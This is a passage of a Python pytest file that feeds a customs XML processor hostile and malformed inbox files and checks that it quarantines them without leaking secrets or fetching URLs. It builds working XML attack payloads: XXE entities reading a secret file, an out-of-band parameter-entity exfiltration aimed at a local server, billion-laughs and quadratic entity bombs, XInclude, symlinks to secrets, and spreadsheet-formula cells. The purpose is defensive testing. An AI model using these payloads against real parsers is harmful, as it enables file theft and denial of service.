"""A hostile inbox: one bad file at a time beside the same good night, through the real command line.

Every bad file is generated here by code (no binary blobs are committed). The good night is a small
synthetic inbox made with processor.synth - export lists (CEB603), a receipt (CEB604), a cancellation
(CEB605), returns (CEB213), a return receipt (CEB214) and claims - whose decisions are first computed in a
clean baseline run of the good files alone. Each case then puts one bad file (or inbox entry) among copies
of the good files and runs `processor run --inbox --out --quiet`, and checks:

- exit status 0: the batch completed;
- quarantine.csv names the bad file, with the line and the field where the defect is (or the case says
  why there is none: a duplicate, a file read correctly, an entry that is not a file);
- summary.json balances: read = stored + quarantined + duplicates per kind and per file, the good files
  count exactly as in the baseline, and the per-kind totals move only by what the bad file brought;
- decisions.csv for the good returns is identical to the baseline (batch_id aside);
- nothing outside --out was written (the inbox, the secret files, the working and temporary folders are
  unchanged), no secret file content appears in any output, and no URL was fetched (a local HTTP server
  counts requests);
- every CSV starts with a UTF-8 BOM, and cells that a spreadsheet would run as formulas are neutralised.

The XML attacks run in a subprocess so that their time and peak memory can be measured and bounded.
"""
from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import os
import random
import re
import sqlite3
import stat
import subprocess
import sys
import tempfile
import threading
import time
import uuid
import zipfile
from dataclasses import dataclass, replace
from datetime import datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Callable

import pytest
from click.testing import CliRunner

from processor import synth
from processor.cli import main

from .helpers import ceb603_text, export_list

BOM = b"\xef\xbb\xbf"
CEB = synth.CEB_NS
CLAIM = synth.CLAIM_NS
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # restated from CONTRACT/README, not imported
ANY = "any"  # a line number must be given, whatever it is
ATTACK_SECONDS = 5.0  # an XML attack must be refused or read within this, interpreter start included
CASE_SECONDS = 15.0
RSS_ALLOWANCE_KB = 300 * 1024  # peak memory of an attack run over the clean run: bounded, not proportional
REPORT_CAP = 2 * 1024 * 1024  # no report may echo a 10 MB field or attribute back
RUNNER = r"""
import resource, sys
from processor.cli import main
try:
    main(sys.argv[1:], prog_name="processor")
    code = 0
except SystemExit as exc:
    code = exc.code if isinstance(exc.code, int) else (0 if exc.code is None else 1)
sys.stderr.write("MAXRSS_KB=%d\n" % resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
sys.stderr.flush()
sys.exit(code)
"""


# -- the good night ----------------------------------------------------------------------------------------------
L = [export_list(1, "2026-08-10", "9610", ((0, 3), (2, 10))),
     export_list(2, "2026-06-01", "1210", ((1, 2),), party=1),
     export_list(3, "2026-09-01", "9810", ((3, 12),), party=2),
     export_list(4, "2026-09-15", "0110", ((6, 5),)),
     export_list(5, "2026-09-25", "9610", ((2, 8),)),
     export_list(6, "2026-10-20", "9610", ((1, 1), (0, 1)), with_invt=False)]
ASSIGNED_6 = synth.invt_no("3301", 2026, 6)
AT = datetime(2026, 11, 20, 10, 0)
RETURNS = [synth.ReturnSpec("BACK-20261120-0001", L[0], [(1, 1), (2, 2)], AT),
           synth.ReturnSpec("BACK-20261120-0002", L[1], [(1, 1)], AT),
           synth.ReturnSpec("BACK-20261121-0003", L[2], [(1, 5)], AT),
           synth.ReturnSpec("BACK-20261121-0004", L[3], [(1, 1)], AT),
           synth.ReturnSpec("BACK-20261121-0005", L[4], [(1, 1)], AT),
           synth.ReturnSpec("BACK-20261122-0006", replace(L[5], invt_no=ASSIGNED_6), [(2, 1)], AT),
           synth.ReturnSpec("BACK-20261122-0007", L[0], [(2, 1)], AT)]
NR = ("NOT_REFUNDED", "3301202611200001")
CLAIMS = [
    synth.ClaimSpec("BACK-20261120-0001", L[0].invt_no, "20261120", "BUYER_RETURN", [{"gnum": 1}, {"gnum": 2}],
                    return_record="RMA-1", certificate=NR),
    synth.ClaimSpec("BACK-20261120-0002", L[1].invt_no, "20261125", "UNSOLD", [{"gnum": 1, "refundedVat": "409.50"}],
                    self_declaration="SD-2", certificate=("PAID_BACK", "C2"), zone_exit_date="20260615"),
    synth.ClaimSpec("BACK-20261121-0003", L[2].invt_no, "20261121", "BUYER_RETURN",
                    [{"gnum": 1, "refundedVat": "130.00"}], return_agreement="RA-3", certificate=NR),
    synth.ClaimSpec("BACK-20261121-0004", L[3].invt_no, "20261121", "UNSOLD", [{"gnum": 1}], self_declaration="SD-4",
                    certificate=NR),
    synth.ClaimSpec("BACK-20261122-0006", ASSIGNED_6, "20261122", "BUYER_RETURN", [{"gnum": 2, "used": True}],
                    return_record="RMA-6", certificate=NR),
]


ceb214_text = synth.ceb214_text  # CEB214 receipts: (coElNo, invtNo, status)


def write_good(inbox: Path) -> list[str]:
    rng = random.Random(20261120)
    inbox.mkdir(parents=True, exist_ok=True)
    synth.write_ceb603(inbox / "00-good-CEB603.xml", L, rng)
    synth.write_ceb604(inbox / "00-good-CEB604.xml", [(L[5], ASSIGNED_6, "800", datetime(2026, 10, 20, 9, 15), "放行")],
                       rng)
    synth.write_ceb605(inbox / "00-good-CEB605.xml", [(L[4], datetime(2026, 9, 27, 14, 0), "订单取消")], rng)
    synth.write_ceb213(inbox / "00-good-CEB213.xml", RETURNS, rng)
    (inbox / "00-good-CEB214.xml").write_text(ceb214_text([(RETURNS[6].co_el_no, L[0].invt_no, "100"),
                                                           (RETURNS[0].co_el_no, L[0].invt_no, "120")], rng),
                                              encoding="utf-8")
    synth.write_claims(inbox / "00-good-claims.xml", CLAIMS)
    return sorted(p.name for p in inbox.iterdir())


# -- generators of bad files -------------------------------------------------------------------------------------
def lists_text(*serials, **kw) -> str:
    """A CEB603 message of new lists (not in the good night), one Inventory per line from line 3."""
    return ceb603_text([export_list(s, "2026-08-10", "9610", ((0, 3), (2, 1))) for s in serials], **kw)


NEW_EXPORT = export_list(901, "2026-08-10", "9610", ((0, 3), (2, 1)))


def returns_text(*cos, invt=None, rng_seed=3) -> str:
    rng = random.Random(rng_seed)
    spec = replace(NEW_EXPORT, invt_no=invt or NEW_EXPORT.invt_no)
    return synth._envelope("CEB213Message", [synth.refund_xml(synth.ReturnSpec(co, spec, [(1, 1)], AT), rng)
                                             for co in cos], rng)


def claims_text(*cos) -> str:
    body = "".join(synth.claim_xml(synth.ClaimSpec(co, NEW_EXPORT.invt_no, "20261120", "UNSOLD",
                                                   [{"gnum": 1, "refundedVat": "1.00"}], self_declaration="SD-H",
                                                   certificate=NR)) for co in cos)
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<ReturnClaims xmlns="{CLAIM}">\n{body}</ReturnClaims>\n'


def nth(text: str, marker: str, n: int) -> int:
    """Index of the n-th (1-based) occurrence of marker."""
    i = -1
    for _ in range(n):
        i = text.index(marker, i + 1)
    return i


def line_at(text, index: int) -> int:
    return text[:index].count("\n" if isinstance(text, str) else b"\n") + 1


def put(text: str, tag: str, value: str, start: int, prefix: str = "ceb:") -> tuple[str, int]:
    """Replace the first <tag>..</tag> after `start` by one on a line of its own holding `value`."""
    m = re.compile(rf"<{prefix}{tag}>[^<]*</{prefix}{tag}>").search(text, start)
    assert m, (tag, start)
    text = text[:m.start()] + f"\n<{prefix}{tag}>{value}</{prefix}{tag}>" + text[m.end():]
    return text, line_at(text, m.start()) + 1


def insert(text: str, marker: str, start: int, what: str) -> tuple[str, int]:
    """Insert `what` on a new line just before the first `marker` after `start`; its line."""
    i = text.index(marker, start)
    return text[:i] + "\n" + what + text[i:], line_at(text, i) + 1


def second_list(text: str) -> int:
    return nth(text, "<ceb:Inventory>", 2)


@dataclass
class Ctx:
    tmp: Path
    inbox: Path
    outside: Path  # a folder beside the inbox holding things the inbox must not reach
    secret: Path
    token: str
    http: str  # base URL of the local server that counts requests
    http_token: str

    def write(self, name: str, data, line=None) -> tuple[str, object]:
        (self.inbox / name).write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return name, line


@dataclass
class Case:
    id: str
    build: Callable  # Ctx -> (name, expected line: int | ANY | None)
    mode: str = "quarantine"  # quarantine | clean | duplicate | any | skipped
    field: str | None = None  # the field the quarantine row must name ("" = a file-level row)
    counts: tuple | None = None  # the bad file's (read, stored, quarantined, duplicates) in summary.json
    kind: str | None = "CEB603"  # the bad file's kind in summary.json (None: quarantined whole, kind FILE)
    attack: bool = False  # run in a subprocess, bounded in time and memory
    new_returns: tuple = ()  # return ids the bad file may add to decisions.csv
    check: Callable | None = None  # extra checks: (ctx, out, name) -> None
    complete: bool | None = None
    marks: tuple = ()


WHOLE = (1, 0, 1, 0)  # a file that is not an input: one FILE record, quarantined


# -- XML attacks ---------------------------------------------------------------------------------------------------
def with_doctype(text: str, doctype: str) -> str:
    head, sep, rest = text.partition("?>\n")
    return head + sep + doctype + "\n" + rest


def xxe_local_file(c: Ctx):
    text = lists_text(901, 902).replace("<ceb:gmodel>128GB 黑色</ceb:gmodel>", "<ceb:gmodel>&xxe;</ceb:gmodel>", 1)
    return c.write("zz-xxe-file.xml", with_doctype(text, f'<!DOCTYPE ceb:CEB603Message [<!ENTITY xxe SYSTEM '
                                                         f'"file://{c.secret}">]>'))


def xxe_http(c: Ctx):
    text = lists_text(901).replace("<ceb:gmodel>128GB 黑色</ceb:gmodel>", "<ceb:gmodel>&xxe;</ceb:gmodel>", 1)
    return c.write("zz-xxe-http.xml", with_doctype(text, f'<!DOCTYPE ceb:CEB603Message [<!ENTITY xxe SYSTEM '
                                                         f'"{c.http}/xxe.txt">]>'))


def external_dtd_path(c: Ctx):
    dtd = c.outside / "evil.dtd"
    dtd.write_text(f'<!ENTITY leak "{c.token}">', encoding="utf-8")
    text = lists_text(901).replace("<ceb:gmodel>128GB 黑色</ceb:gmodel>", "<ceb:gmodel>&leak;</ceb:gmodel>", 1)
    return c.write("zz-dtd-path.xml", with_doctype(text, f'<!DOCTYPE ceb:CEB603Message SYSTEM "{dtd}">'))


def external_dtd_http(c: Ctx):
    text = lists_text(901).replace("<ceb:gmodel>128GB 黑色</ceb:gmodel>", "<ceb:gmodel>&leak;</ceb:gmodel>", 1)
    return c.write("zz-dtd-http.xml", with_doctype(text, f'<!DOCTYPE ceb:CEB603Message SYSTEM "{c.http}/evil.dtd">'))


def parameter_entities(c: Ctx):  # the classic out-of-band exfiltration
    doctype = (f'<!DOCTYPE ReturnClaims [<!ENTITY % file SYSTEM "file://{c.secret}">'
               f'<!ENTITY % dtd SYSTEM "{c.http}/oob.dtd"> %dtd; %send; ]>')
    return c.write("zz-param-entities.xml", with_doctype(claims_text("BACK-H-PE"), doctype))


def billion_laughs(c: Ctx):
    ents = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
    body = '<Claim><coElNo>&lol9;</coElNo></Claim>'
    return c.write("zz-billion-laughs.xml", f'<?xml version="1.0"?>\n<!DOCTYPE ReturnClaims [{ents}]>\n'
                                             f'<ReturnClaims xmlns="{CLAIM}">{body}</ReturnClaims>\n')


def quadratic_blowup(c: Ctx):
    big = "A" * 50_000
    return c.write("zz-quadratic.xml", f'<?xml version="1.0"?>\n<!DOCTYPE ReturnClaims [<!ENTITY a "{big}">]>\n'
                                        f'<ReturnClaims xmlns="{CLAIM}"><Claim><coElNo>{"&a;" * 50_000}</coElNo>'
                                        f'</Claim></ReturnClaims>\n')


def dtd_in_valid_message(c: Ctx):
    return c.write("zz-dtd-valid.xml", with_doctype(lists_text(901, 902), "<!DOCTYPE ceb:CEB603Message []>"))


def xinclude(href_of):
    def build(c: Ctx):
        text = lists_text(901, 902, 903)
        include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{href_of(c)}" parse="text"/>'
        text, line = insert(text, "<ceb:copNo>", second_list(text), include)
        return c.write(f"zz-xinclude-{'http' if href_of(c).startswith('http') else 'file'}.xml", text, line)
    return build


def oversized_text(c: Ctx):
    text = lists_text(901, 902, 903)
    text, line = put(text, "gmodel", "A" * 10_500_000, second_list(text))
    return c.write("zz-oversized-text.xml", text, line)


def deep_nesting(c: Ctx):
    text = lists_text(901, 902, 903)
    deep = "<ceb:gmodel>" * 10_000 + "x" + "</ceb:gmodel>" * 10_000
    text, line = insert(text, "<ceb:gname>", second_list(text), deep)
    return c.write("zz-deep.xml", text, line)


def huge_attribute(c: Ctx):
    text = claims_text("BACK-H-A1", "BACK-H-A2", "BACK-H-A3")
    i = nth(text, "<certificate ", 2)
    text = text[:i] + "\n" + text[i:].replace(f'no="{NR[1]}"', f'no="{"9" * 12_000_000}"', 1)
    return c.write("zz-huge-attribute.xml", text, line_at(text, i) + 1)


def remote_references(c: Ctx):  # no DTD: a stylesheet PI and a schemaLocation must not be fetched either
    text = lists_text(901, 902).replace(
        "?>\n", f'?>\n<?xml-stylesheet type="text/xsl" href="{c.http}/style.xsl"?>\n', 1).replace(
        'version="1.0" xmlns:ceb', f'version="1.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                                   f'xsi:schemaLocation="{CEB} {c.http}/ceb603.xsd" xmlns:ceb', 1)
    return c.write("zz-remote-refs.xml", text)


def undeclared_entity(c: Ctx):
    text = lists_text(901, 902, 903)
    text, line = put(text, "gmodel", "&xxe;", second_list(text))
    return c.write("zz-undeclared-entity.xml", text, line)


# -- broken input -----------------------------------------------------------------------------------------------------
def raw(name, data, line=None):
    return lambda c: c.write(name, data, line)


def binary_garbage(c: Ctx):
    data = bytes([0x89]) + random.Random(99).randbytes(4096)
    return c.write("zz-garbage.xml", data)


def zip_file(c: Ctx):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("lists.xml", lists_text(901))
    return c.write("zz-archive.xml", buf.getvalue(), 1)


def gzip_file(c: Ctx):
    return c.write("zz-compressed.xml.gz", gzip.compress(lists_text(901).encode(), mtime=0), 1)


def truncated_mid_record(c: Ctx):
    text = lists_text(901, 902, 903)
    cut = text[:nth(text, "<ceb:Inventory>", 3) + 700]
    return c.write("zz-truncated.xml", cut, line_at(cut, len(cut)))


def gbk_declared_utf8(c: Ctx):
    data = lists_text(901, 902).encode("gbk")
    return c.write("zz-gbk-as-utf8.xml", data, line_at(data, next(i for i, b in enumerate(data) if b >= 0x80)))


def utf8_declared_gbk(c: Ctx):
    return c.write("zz-utf8-as-gbk.xml", lists_text(901, 902).replace('encoding="UTF-8"', 'encoding="GBK"'))


RARE = "\U00020000"  # outside GBK: four bytes in GB18030


def gb18030_honest(c: Ctx):
    text = lists_text(901).replace('encoding="UTF-8"', 'encoding="GB18030"').replace("128GB 黑色", f"128GB 黑色{RARE}")
    return c.write("zz-gb18030.xml", text.encode("gb18030"))


def names_intact(gmodel: str):
    def check(c: Ctx, out: Path, name: str):
        with sqlite3.connect(out / "ledger.sqlite") as db:
            rows = db.execute("SELECT gname, gmodel FROM export_items WHERE list_key LIKE ? ORDER BY gnum",
                              (f"%{NEW_EXPORT.cop_no}",)).fetchall()
        assert rows == [("智能手机", gmodel), ("蓝牙耳机", "无线 降噪")], rows
    return check


def utf16_bom(c: Ctx):
    return c.write("zz-utf16.xml", lists_text(901).replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))


def reroot(text: str, root: str) -> str:
    return text.replace("CEB603Message", root)


def ceb621(c: Ctx):
    sample = Path(__file__).resolve().parents[2] / "shared" / "ceb" / "samples-import" / "CEB621Message.xml"
    data = sample.read_bytes() if sample.is_file() else reroot(lists_text(901), "CEB621Message").encode()
    return c.write("zz-CEB621.xml", data)


def ceb607(c: Ctx):
    sample = Path(__file__).resolve().parents[2] / "shared" / "ceb" / "samples-export" / "CEB607Message.xml"
    data = sample.read_bytes() if sample.is_file() else reroot(lists_text(901), "CEB607Message").encode()
    return c.write("zz-CEB607.xml", data)


def wrong_namespace_root(c: Ctx):
    return c.write("zz-wrong-ns.xml", lists_text(901).replace(f'xmlns:ceb="{CEB}"', 'xmlns:ceb="urn:not-ceb"'))


def mixed_prefixes(c: Ctx):
    text = lists_text(901)
    text = text.replace("<ceb:gmodel>128GB 黑色</ceb:gmodel>", f'<x:gmodel xmlns:x="{CEB}">128GB 黑色</x:gmodel>', 1)
    text = text.replace("<ceb:gname>智能手机</ceb:gname>", f'<gname xmlns="{CEB}">智能手机</gname>', 1)
    text = text.replace("<ceb:InventoryList>", f'<y:InventoryList xmlns:y="{CEB}">', 1)
    i = text.index("</ceb:InventoryList>")
    text = text[:i] + "</y:InventoryList>" + text[i + len("</ceb:InventoryList>"):]
    return c.write("zz-mixed-prefixes.xml", text)


def duplicate_within_file(c: Ctx):
    one = synth.inventory_xml(NEW_EXPORT, random.Random(5))
    return c.write("zz-dup-within.xml", synth._envelope("CEB603Message", [one, one], random.Random(6)))


def duplicate_across_files(c: Ctx):  # the first good return, sent again in a new message with new guids
    rng = random.Random(77)
    return c.write("zz-dup-across.xml", synth._envelope("CEB213Message", [synth.refund_xml(RETURNS[0], rng)], rng))


def same_key_other_content(c: Ctx):  # the first good list again: same copNo, appTime and appType, other goods
    text = synth.inventory_xml(L[0], random.Random(8)).replace("<ceb:gmodel>128GB 黑色</ceb:gmodel>",
                                                               "<ceb:gmodel>256GB 白色</ceb:gmodel>", 1)
    text = synth._envelope("CEB603Message", [text], random.Random(9))
    return c.write("zz-same-key.xml", text, line_at(text, text.index("<ceb:Inventory>")))


def field_case(name, kind, tag, value, n=2, prefix="ceb:", nth_item=1):
    """A file of three new records of `kind` whose n-th record has `value` in its `tag`."""
    def build(c: Ctx):
        if kind == "CEB603":
            text, rec = lists_text(901, 902, 903), "<ceb:Inventory>"
        elif kind == "CEB213":
            text, rec = returns_text("BACK-H-0001", "BACK-H-0002", "BACK-H-0003"), "<ceb:InvtRefund>"
        else:
            text, rec = claims_text("BACK-H-0001", "BACK-H-0002", "BACK-H-0003"), "<Claim>"
        start = nth(text, rec, n)
        for _ in range(nth_item - 1):
            start = text.index(f"<{prefix}{tag}>", start) + 1
        text, line = put(text, tag, value, start, prefix)
        return c.write(name, text, line)
    return build


def ceb604_case(c: Ctx):
    rng = random.Random(11)
    spec = export_list(904, "2026-08-10", "9610", with_invt=False)
    path = c.inbox / "zz-CEB604-bad-time.xml"
    synth.write_ceb604(path, [(spec, synth.invt_no("3301", 2026, 904), "800", datetime(2026, 10, 1), "放行")], rng)
    text = path.read_text(encoding="utf-8")
    text, line = put(text, "returnTime", "20261131250000000", 0)
    return c.write(path.name, text, line)


def ceb605_case(c: Ctx):
    spec = export_list(905, "2026-08-10", "9610")
    path = c.inbox / "zz-CEB605-impossible.xml"
    synth.write_ceb605(path, [(spec, datetime(2026, 9, 1), "撤单")], random.Random(12))
    text = path.read_text(encoding="utf-8")
    text, line = put(text, "appTime", "20230230120000", 0)
    return c.write(path.name, text, line)


def ceb604_unknown_element(c: Ctx):
    spec = export_list(906, "2026-08-10", "9610", with_invt=False)
    path = c.inbox / "zz-CEB604-unknown.xml"
    synth.write_ceb604(path, [(spec, synth.invt_no("3301", 2026, 906), "800", datetime(2026, 10, 1), "放行")],
                       random.Random(13))
    text = path.read_text(encoding="utf-8")
    text, line = insert(text, "<ceb:returnInfo>", 0, "<ceb:colour>red</ceb:colour>")
    return c.write(path.name, text, line)


def ceb214_missing(c: Ctx):
    text = ceb214_text([("BACK-H-0214", NEW_EXPORT.invt_no, "120")], random.Random(14))
    i = text.index("<ceb:RefundReturn>")
    text = text[:i] + "\n" + re.sub(r"<ceb:returnTime>[^<]*</ceb:returnTime>", "", text[i:])
    return c.write("zz-CEB214-missing.xml", text, line_at(text, i) + 1)


def missing_required(c: Ctx):
    text = returns_text("BACK-H-0001", "BACK-H-0002")
    start = nth(text, "<ceb:InvtRefund>", 2)
    text = text[:start] + "\n" + text[start:]
    text = text[:start] + re.sub(r"<ceb:reason>[^<]*</ceb:reason>", "", text[start:], count=1)
    return c.write("zz-missing-reason.xml", text, line_at(text, start) + 1)


def chinese_name(c: Ctx):
    text = lists_text(901, 902)
    text, line = put(text, "ieFlag", "X", second_list(text))
    return c.write("zz 退运 清单 (副本) 2026.xml", text, line)


def symlink_out(c: Ctx):
    (c.inbox / "zz-link-secret.xml").symlink_to(c.secret)
    return "zz-link-secret.xml", None


def symlink_to_lists(c: Ctx):
    target = c.outside / "lists-outside.xml"
    target.write_text(lists_text(901, 902), encoding="utf-8")
    (c.inbox / "zz-link-lists.xml").symlink_to(target)
    return "zz-link-lists.xml", None


def subfolder(c: Ctx):
    sub = c.inbox / "zz-sub"
    sub.mkdir()
    (sub / "more.xml").write_text(lists_text(901), encoding="utf-8")
    (sub / "secret-copy.xml").write_bytes(c.secret.read_bytes())
    return "zz-sub", None


def fifo(c: Ctx):
    os.mkfifo(c.inbox / "zz-fifo.xml")
    return "zz-fifo.xml", None


def gbk_late_bad_byte(c: Ctx):
    text = ceb603_text([export_list(900 + i, "2026-08-10", "9610") for i in range(1, 61)])
    data = text.replace('encoding="UTF-8"', 'encoding="GBK"').encode("gbk")
    j = data.index(b"<ceb:copNo>COP20260810000930")
    data = data[:j] + b"\x81\x20" + data[j:]
    return c.write("zz-gbk-late-break.xml", data, line_at(data, j))


def comments_in_fields(c: Ctx):
    text = lists_text(901).replace("<ceb:gmodel>128GB 黑色</ceb:gmodel>",
                                   "<ceb:gmodel>128GB<!-- note --> <?pi x?>黑<![CDATA[色]]></ceb:gmodel>", 1)
    return c.write("zz-comments.xml", text)


def bad_char(name, what):
    def build(c: Ctx):
        text = lists_text(901, 902, 903)
        text, line = put(text, "gmodel", what, second_list(text))
        return c.write(name, text, line)
    return build


def undeclared_prefix(c: Ctx):  # a sender forgot xmlns:ceb: every ceb: name is unbound
    return c.write("zz-no-xmlns.xml", lists_text(901, 902).replace(f' xmlns:ceb="{CEB}"', ""))


def wrapped_record(c: Ctx):  # the second list inside an element whose prefix is never declared
    text = lists_text(901, 902)
    i = second_list(text)
    j = text.index("</ceb:Inventory>", i) + len("</ceb:Inventory>")
    text = text[:i] + "\n<x:Wrapper>" + text[i:j] + "</x:Wrapper>" + text[j:]
    return c.write("zz-wrapped.xml", text, line_at(text, i) + 1)


def text_between_fields(c: Ctx):  # qty 100 split by a broken template: <qty>1</qty>00
    text = lists_text(901, 902)
    start = second_list(text)
    m = re.compile(r"<ceb:qty>([^<]*)</ceb:qty>").search(text, start)
    text = text[:m.start()] + f"\n<ceb:qty>{m.group(1)}</ceb:qty>00" + text[m.end():]
    return c.write("zz-stray-text.xml", text, line_at(text, m.start()) + 1)


# -- output safety -------------------------------------------------------------------------------------------------
def formula(ch: str):
    xml_ch = "&#13;" if ch == "\r" else ch

    def build(c: Ctx):
        good, bad = f"{xml_ch}HYPERLINK(1)", f"{xml_ch}BAD"
        text = returns_text("PLACEHOLDER-GOOD", "PLACEHOLDER-BAD", invt="PLACEHOLDER-INVT")
        text = text.replace("PLACEHOLDER-GOOD", good).replace("PLACEHOLDER-BAD", bad)
        text = text.replace("PLACEHOLDER-INVT", f"{xml_ch}1+1")
        start = nth(text, "<ceb:InvtRefund>", 2)
        text, line = put(text, "qty", "-1", start)
        return c.write(f"{ch}SUM(1+1) cmd.xml", text, line)
    return build


def formula_check(ch: str):
    def check(c: Ctx, out: Path, name: str):
        with open(out / "decisions.csv", encoding="utf-8-sig", newline="") as fh:
            rows = [r for r in csv.DictReader(fh) if r["return_id"].endswith("HYPERLINK(1)")]
        assert len(rows) == 1, rows
        assert rows[0]["return_id"] == f"'{ch}HYPERLINK(1)" and rows[0]["invt_no"] == f"'{ch}1+1", rows[0]
        for path in ("decisions.csv", "quarantine.csv", "backpay.csv"):
            with open(out / path, encoding="utf-8-sig", newline="") as fh:
                for row in csv.reader(fh):
                    for cell in row:
                        assert not cell.startswith(FORMULA_START) or re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell), \
                            (path, cell)
    return check


CASES = [
    # XML attacks
    Case("xxe-local-file", xxe_local_file, field="", counts=WHOLE, kind=None, attack=True),
    Case("xxe-http-entity", xxe_http, field="", counts=WHOLE, kind=None, attack=True),
    Case("external-dtd-file-path", external_dtd_path, field="", counts=WHOLE, kind=None, attack=True),
    Case("external-dtd-http", external_dtd_http, field="", counts=WHOLE, kind=None, attack=True),
    Case("parameter-entities", parameter_entities, field="", counts=WHOLE, kind=None, attack=True),
    Case("billion-laughs", billion_laughs, field="", counts=WHOLE, kind=None, attack=True),
    Case("quadratic-blowup", quadratic_blowup, field="", counts=WHOLE, kind=None, attack=True),
    Case("dtd-in-valid-message", dtd_in_valid_message, field="", counts=WHOLE, kind=None, attack=True),
    Case("xinclude-file", xinclude(lambda c: f"file://{c.secret}"), field="InventoryHead/include", counts=(3, 2, 1, 0),
         attack=True),
    Case("xinclude-http", xinclude(lambda c: f"{c.http}/inc.txt"), field="InventoryHead/include", counts=(3, 2, 1, 0),
         attack=True),
    Case("oversized-text-node", oversized_text, field="", counts=(1, 1, 0, 0), attack=True, complete=False),
    Case("deep-nesting-10000", deep_nesting, field="", counts=(1, 1, 0, 0), attack=True, complete=False),
    Case("huge-attribute", huge_attribute, field="certificate@no", counts=(3, 2, 1, 0), kind="ReturnClaims",
         attack=True),
    Case("remote-references-without-dtd", remote_references, mode="clean", counts=(2, 2, 0, 0), attack=True),
    Case("undeclared-entity", undeclared_entity, field="", counts=(1, 1, 0, 0), complete=False),
    # broken input
    Case("empty-file", raw("zz-empty.xml", b""), field="", counts=WHOLE, kind=None),
    Case("whitespace-only", raw("zz-blank.xml", b"  \n\t\r\n   \n"), field="", counts=WHOLE, kind=None),
    Case("binary-garbage", binary_garbage, field="", counts=WHOLE, kind=None),
    Case("zip-header", zip_file, field="", counts=WHOLE, kind=None),
    Case("gzip-header", gzip_file, field="", counts=WHOLE, kind=None),
    Case("plain-text", raw("zz-notes.xml", "退运说明: 这不是XML\nplain text only\n".encode(), 1), field="",
         counts=WHOLE, kind=None),
    Case("json", raw("zz-data.xml", b'{"CEB603Message": {"Inventory": []}}\n', 1), field="", counts=WHOLE,
         kind=None),
    Case("html", raw("zz-page.xml", b"<!DOCTYPE html>\n<html><head><title>x</title></head><body><p>hi<br></body>"
                                    b"</html>\n"), field="", counts=WHOLE, kind=None),
    Case("html-without-doctype", raw("zz-page2.xml", b"<html><body><p>hi</p></body></html>\n"), field="",
         counts=WHOLE, kind=None),
    Case("truncated-mid-record", truncated_mid_record, field="", counts=(2, 2, 0, 0), complete=False),
    Case("truncated-in-xml-declaration", raw("zz-decl.xml", b'<?xml version="1.0" enco', 1), field="", counts=WHOLE,
         kind=None),
    Case("gbk-bytes-declared-utf8", gbk_declared_utf8, field="", counts=(0, 0, 0, 0), complete=False),
    Case("utf8-bytes-declared-gbk", utf8_declared_gbk, mode="any", kind=None),
    Case("gb18030-honest", gb18030_honest, mode="clean", counts=(1, 1, 0, 0),
         check=names_intact(f"128GB 黑色{RARE}")),
    Case("utf16-with-bom", utf16_bom, mode="clean", counts=(1, 1, 0, 0), check=names_intact("128GB 黑色")),
    Case("unknown-root", raw("zz-unknown-root.xml", f'<?xml version="1.0"?>\n<Orders xmlns="{CEB}"/>\n'.encode()),
         field="", counts=WHOLE, kind=None),
    Case("import-direction-CEB621", ceb621, field="", counts=WHOLE, kind=None),
    Case("CEB607", ceb607, field="", counts=WHOLE, kind=None),
    Case("root-in-wrong-namespace", wrong_namespace_root, field="", counts=WHOLE, kind=None),
    Case("mixed-prefixes-one-namespace", mixed_prefixes, mode="clean", counts=(1, 1, 0, 0),
         check=names_intact("128GB 黑色")),
    Case("duplicate-within-file", duplicate_within_file, mode="duplicate", counts=(2, 1, 0, 1)),
    Case("duplicate-across-files", duplicate_across_files, mode="duplicate", counts=(1, 0, 0, 1), kind="CEB213"),
    Case("same-key-other-content", same_key_other_content, field="", counts=(1, 0, 1, 0)),
    Case("too-many-digits", field_case("zz-digits.xml", "CEB603", "qty", "1234567890123456789012"),
         field="InventoryList[1]/qty", counts=(3, 2, 1, 0)),
    Case("exponent-notation", field_case("zz-exponent.xml", "ReturnClaims", "refundedVat", "1E+3", prefix=""),
         field="Item[1]/refundedVat", counts=(3, 2, 1, 0), kind="ReturnClaims"),
    Case("negative-quantity", field_case("zz-negative.xml", "CEB213", "qty", "-2"), field="InvtRefundList[1]/qty",
         counts=(3, 2, 1, 0), kind="CEB213", new_returns=("BACK-H-0001", "BACK-H-0003")),
    Case("NaN", field_case("zz-nan.xml", "CEB603", "price", "NaN"), field="InventoryList[1]/price",
         counts=(3, 2, 1, 0)),
    Case("INF", field_case("zz-inf.xml", "CEB603", "totalPrice", "INF", nth_item=2),
         field="InventoryList[2]/totalPrice", counts=(3, 2, 1, 0)),
    Case("date-1899", field_case("zz-1899.xml", "CEB603", "ieDate", "18990101"), field="InventoryHead/ieDate",
         counts=(3, 2, 1, 0)),
    Case("date-2100", field_case("zz-2100.xml", "ReturnClaims", "returnDate", "21000101", prefix=""),
         field="returnDate", counts=(3, 2, 1, 0), kind="ReturnClaims"),
    Case("impossible-date", ceb605_case, field="appTime", counts=(1, 0, 1, 0), kind="CEB605"),
    Case("impossible-time", ceb604_case, field="returnTime", counts=(1, 0, 1, 0), kind="CEB604"),
    Case("over-max-length", field_case("zz-long.xml", "CEB603", "gname", "长" * 1001), field="InventoryList[1]/gname",
         counts=(3, 2, 1, 0)),
    Case("missing-required-field", missing_required, field="InvtRefundHead/reason", counts=(2, 1, 1, 0),
         kind="CEB213", new_returns=("BACK-H-0001",)),
    Case("missing-required-receipt-field", ceb214_missing, field="returnTime", counts=(1, 0, 1, 0), kind="CEB214"),
    Case("unknown-element", ceb604_unknown_element, field="colour", counts=(1, 0, 1, 0), kind="CEB604"),
    Case("file-name-spaces-chinese", chinese_name, field="InventoryHead/ieFlag", counts=(2, 1, 1, 0)),
    Case("symlink-to-secret-outside", symlink_out, mode="skipped"),
    Case("symlink-to-lists-outside", symlink_to_lists, mode="skipped"),
    Case("subfolder", subfolder, mode="skipped"),
